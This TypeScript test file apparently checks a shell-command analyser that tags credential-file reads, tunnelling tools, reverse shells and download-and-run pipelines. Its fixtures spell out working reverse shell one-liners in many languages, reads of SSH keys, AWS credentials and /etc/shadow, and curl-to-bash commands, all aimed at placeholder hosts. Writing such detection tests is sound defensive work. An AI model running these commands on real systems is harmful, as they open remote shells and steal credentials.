import * as assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { commandText, normalisePath } from './command-text.js';
import { ShellParser } from './shell-parser.js';

describe('command text', () => {
  let parser: ShellParser;
  before(async () => {
    parser = await ShellParser.create();
  });
  after(() => parser.delete());
  const probePaths = ['~/.ssh/id_rsa', '~/.ssh/id_ed25519', '~/.aws/credentials', '/etc/shadow'];
  const of = (script: string, cwd?: string) => commandText(parser.analyzeScript(script), { probePaths, ...(cwd ? { cwd } : {}) });

  it('normalises the spellings of one path', () => {
    for (const p of ['~/.ssh/id_rsa', '$HOME/.ssh/id_rsa', '${HOME}/.ssh/id_rsa', '/root/.ssh/id_rsa', '/home/dev/.ssh//id_rsa', '/tmp/home/./.ssh/id_rsa', '/root/.cache/../.ssh/id_rsa', '~dev/.ssh/id_rsa']) {
      assert.equal(normalisePath(p), '~/.ssh/id_rsa', p);
    }
    assert.equal(normalisePath('//etc///shadow'), '/etc/shadow');
    assert.equal(normalisePath('if=/etc/shadow'), '/etc/shadow');
    assert.equal(normalisePath('--config=~/.aws/credentials'), '~/.aws/credentials');
    assert.equal(normalisePath('build:~/.ssh/id_rsa'), '~/.ssh/id_rsa');
    assert.equal(normalisePath('.ssh/id_rsa', '/tmp/home'), '~/.ssh/id_rsa');
    assert.equal(normalisePath('https://example.com/a/b'), null);
    assert.equal(normalisePath('-rf'), null);
    assert.equal(normalisePath('README'), null);
  });

  it('finds the path behind quotes, variables, cd and globs', () => {
    assert.ok(of(`cat "/root/.ssh/id_rsa"`).paths.includes('~/.ssh/id_rsa'));
    assert.ok(of(`cat '$HOME'/.ssh/id_rsa`).paths.length > 0);
    assert.ok(of(`cd ~/.ssh && cat id_ed25519`).paths.includes('~/.ssh/id_ed25519'));
    assert.ok(of(`cat /root/.ss?/id_*`).paths.includes('~/.ssh/id_rsa'));
    assert.ok(of(`tar czf /tmp/x.tgz ~/.a[w]s/cred*`).paths.includes('~/.aws/credentials'));
    assert.ok(of(`dd if=//etc/./shadow of=/tmp/s`).paths.includes('/etc/shadow'));
    assert.ok(of(`python3 -c "print(open('/root/.aws/credentials').read())"`).paths.includes('~/.aws/credentials'));
    assert.ok(of(`python3 -c "from pathlib import Path; print((Path.home() / '.ssh' / 'id_rsa').read_text())"`).paths.includes('~/.ssh/id_rsa'));
  });

  it('sees programs through wrappers and multi-call binaries, installed or not', () => {
    assert.deepEqual(of('busybox nohup env A=1 timeout 9 ngrok http 80').programs, ['busybox', 'nohup', 'env', 'timeout', 'ngrok']);
    assert.ok(of('echo 80 | xargs -I{} sudo -n stdbuf -oL nice setsid chisel client h:1 R:{}').programs.includes('chisel'));
    assert.ok(of('command exec cloudflared tunnel --url http://localhost:3000').programs.includes('cloudflared'));
    assert.deepEqual(of('ls -la ~/.ssh').lines, ['ls -la ~/.ssh']);
  });

  it('tags reverse and bind shells in each language', () => {
    const cases: [string, string][] = [
      [`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, 'socket-exec:python'],
      [`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'`, 'socket-exec:perl'],
      [`ruby -rsocket -e 'f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, 'socket-exec:ruby'],
      [`php -r '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");'`, 'socket-exec:php'],
      [`node -e 'const n=require("net"),c=require("child_process").spawn("/bin/sh",[]);const s=n.connect(1,"h",()=>{s.pipe(c.stdin);c.stdout.pipe(s)})'`, 'socket-exec:node'],
      [`lua -e "local s=require('socket');local t=s.tcp();t:connect('h',1);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a'));end"`, 'socket-exec:lua'],
      [`gawk 'BEGIN{s="/inet/tcp/0/h/1";while(1){printf "> " |& s;s |& getline c;if(c){while((c |& getline) > 0) print $0 |& s;close(c)}}}'`, 'socket-exec:shell'],
      [`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, 'socket-exec:shell'],
      [`exec 5<>/dev/tcp/h/1; cat <&5 | while read line; do $line 2>&5 >&5; done`, 'socket-exec:shell'],
      [`rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 1 > /tmp/f`, 'socket-exec:shell'],
      [`busybox nc h 1 -e /bin/sh`, 'socket-exec:shell'],
      [`zsh -c 'zmodload zsh/net/tcp && ztcp h 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`, 'socket-exec:shell'],
      [`python3 - <<'EOF'\nimport socket,subprocess\ns=socket.create_connection(("h",1))\nsubprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)\nEOF`, 'socket-exec:python'],
      [`socat tcp:h:1 exec:/bin/bash,pty,stderr`, 'socket-exec:shell'],
    ];
    for (const [line, tag] of cases) assert.ok(of(line).intents.includes(tag), `${tag} in ${line}: ${of(line).intents.join(',')}`);
  });

  it('leaves ordinary interpreter one-liners and local /dev/tcp alone', () => {
    for (const line of [
      `python3 -c 'import json,sys; print(json.load(sys.stdin)["version"])'`,
      `python3 -m http.server 8000`,
      `node -e 'console.log(require("./package.json").version)'`,
      `node -e 'require("http").createServer((q,r)=>r.end("ok")).listen(3000)'`,
      `perl -pe 's/foo/bar/' file`,
      `ruby -e 'puts 1+1'`,
      `awk '{print $1}' access.log`,
      `timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/3000'`,
      `curl -s http://localhost:3000/api | python3 -m json.tool`,
      `python3 -c 'import socket; print(socket.gethostname())'`,
    ]) {
      assert.deepEqual(of(line).intents.filter((t) => t.startsWith('socket-exec') || t.startsWith('download-exec')), [], line);
    }
  });

  it('tags a download run by an interpreter', () => {
    assert.ok(of('curl -fsSL http://x/i.py | python3 -').intents.includes('download-exec:python'));
    assert.ok(of('wget -qO- http://x/i.js | node').intents.includes('download-exec:node'));
    assert.ok(of('curl -s http://x/i.sh | sudo bash -s -- --yes').intents.includes('download-exec:shell'));
    assert.ok(of('bash -c "$(curl -fsSL http://x/i.sh)"').intents.includes('download-exec:shell'));
  });
});
